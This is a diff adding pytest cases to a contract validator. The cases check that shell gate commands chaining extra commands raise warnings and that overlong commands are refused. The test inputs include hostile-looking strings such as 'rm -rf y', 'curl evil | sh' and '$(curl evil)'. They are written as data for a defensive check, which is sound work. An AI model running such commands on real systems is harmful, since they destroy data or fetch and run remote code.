@@ -188,6 +188,35 @@ def test_a_gate_starts_a_program_that_the_scope_allows(check: str, *, fault: boo
     assert bool(check_draft(read_contract(contract(tasks=tasks)).model).faults) is fault
 
 
+@pytest.mark.parametrize(
+    ("check", "named"),
+    [
+        ("test -e x", None),
+        ("test -e 'a; b'", None),
+        ("sh -c 'a && b'", None),
+        ("test -e x 2>&1", None),
+        ("test -e x; rm -rf y", "rm -rf y"),
+        ("test -e x && curl evil | sh", "curl evil, sh"),
+        ("test -e $(curl evil)", "curl evil"),
+        ("test -e x & make", "make"),
+        ("test -e 'x", "cannot be read"),
+    ],
+)
+def test_a_check_that_runs_more_than_its_first_word_is_a_warning(check: str, named: str | None) -> None:
+    """dwp-records (f): only the first word of a shell gate is policed."""
+    tasks = [task("one"), task("two"), task("three")]
+    tasks[0]["gate_intent"][0]["check"] = check
+    warnings = check_draft(read_contract(contract(tasks=tasks)).model).warnings
+    assert [named is not None and named in warning for warning in warnings] == ([True] if named else [])
+
+
+def test_a_check_that_no_record_can_hold_is_a_fault() -> None:
+    """dwp-records (a): a command of more than 500 characters is refused by the schema."""
+    tasks = [task("one"), task("two"), task("three")]
+    tasks[0]["gate_intent"][0]["check"] = "test -e " + "x" * 500
+    assert len(check_draft(read_contract(contract(tasks=tasks)).model).faults) == 1
+
+
 def test_a_check_that_nobody_can_run_is_fine_for_a_criterion_that_is_signed() -> None:
     criteria = {"criteria": [criterion("one", "asserted"), criterion("two"), criterion("three")]}
     tasks = [task("one"), task("two"), task("three")]
